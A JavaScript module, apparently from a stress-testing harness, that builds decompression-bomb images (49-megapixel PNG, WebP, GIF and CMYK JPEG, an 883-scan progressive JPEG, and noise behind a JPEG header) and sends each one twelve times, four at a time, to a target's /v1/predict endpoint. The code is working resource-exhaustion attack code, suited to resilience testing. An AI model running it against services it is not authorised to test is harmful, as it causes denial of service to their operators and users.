// Small files that are large, or slow, to decode.
import { randomBytes } from 'node:crypto';
import sharp from 'sharp';
import { many, send } from '../send.mjs';
import { manyScans } from './many-scans.mjs';

const SIDE = 7000;
const flat = (channels) => ({
  create: { width: SIDE, height: SIDE, channels, background: { r: 9, g: 9, b: 9, alpha: 0.5 } },
  limitInputPixels: false,
});

const PICTURES = {
  'a PNG of 49 megapixels': () => sharp(flat(4)).png({ compressionLevel: 9 }).toBuffer(),
  'an interlaced PNG of 49 megapixels': () => sharp(flat(3)).png({ compressionLevel: 9, progressive: true }).toBuffer(),
  'a WebP of 49 megapixels': () => sharp(flat(4)).webp({ lossless: true, effort: 0 }).toBuffer(),
  'a GIF of 49 megapixels': () => sharp(flat(3)).gif({ effort: 1 }).toBuffer(),
  'a JPEG in CMYK of 49 megapixels': () => sharp(flat(3)).toColourspace('cmyk').jpeg({ quality: 10 }).toBuffer(),
  'a progressive JPEG with 883 scans': () => manyScans(7000),
  'noise that calls itself a JPEG': () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), randomBytes(2 ** 20)]),
};

/** @type {import('../main.mjs').Attack[]} */
export const pictureAttacks = Object.entries(PICTURES).map(([name, make]) => ({
  name: `twelve times ${name}`,
  inShort: /scans|WebP/.test(name),
  run: async ({ url }) => {
    const body = await make();
    const headers = {
      'Content-Type': 'application/octet-stream',
      'Content-Length': body.length,
      'Cache-Control': 'no-store',
    };
    return many(12, 4, () => send(`${url}/v1/predict`, { headers, body }));
  },
}));
